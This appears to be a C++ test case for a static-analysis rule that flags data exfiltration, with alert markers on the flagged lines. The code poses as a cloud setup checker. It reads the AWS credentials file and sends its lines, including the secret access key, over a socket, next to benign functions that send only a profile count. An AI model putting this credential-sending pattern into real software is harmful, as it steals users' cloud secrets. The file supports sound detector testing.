// taint.exfiltration (secret): a "cloud setup checker" that reads
// ~/.aws/credentials with std::ifstream (path built with std::string +) and
// sends the lines to a remote diagnostics service with send(). The
// look-alikes send only how many profiles were found and the tool version.
#include <cstdlib>
#include <fstream>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

static std::string home_dir()
{
    const char *home = std::getenv("HOME");
    return home ? std::string(home) : std::string("/root");
}

static void send_all(int sock, const std::string &s)
{
    send(sock, s.data(), s.size(), MSG_NOSIGNAL); // $ Alert[taint.exfiltration]
}

int report_diagnostics(int sock, bool verbose)
{
    std::ifstream creds(home_dir() + "/.aws/credentials");
    if (!creds)
        return -1;
    std::string line;
    int profiles = 0;
    while (std::getline(creds, line)) {
        if (!line.empty() && line[0] == '[')
            ++profiles;
        if (verbose) {
            line += "\n";
            send(sock, line.c_str(), line.size(), 0); // $ Alert[taint.exfiltration]
        }
    }
    send_all(sock, "profiles=" + std::to_string(profiles) + "\n");
    send_all(sock, std::string("version=1.4.2\n"));
    return 0;
}

int report_key_line(int sock)
{
    std::ifstream creds(home_dir() + "/.aws/credentials");
    std::string line;
    while (std::getline(creds, line))
        if (line.rfind("aws_secret_access_key", 0) == 0)
            send_all(sock, line);
    return 0;
}

int main(int argc, char **argv)
{
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    if (sock < 0)
        return 1;
    int rc = argc > 1 ? report_key_line(sock) : report_diagnostics(sock, false);
    close(sock);
    return rc == 0 ? 0 : 1;
}
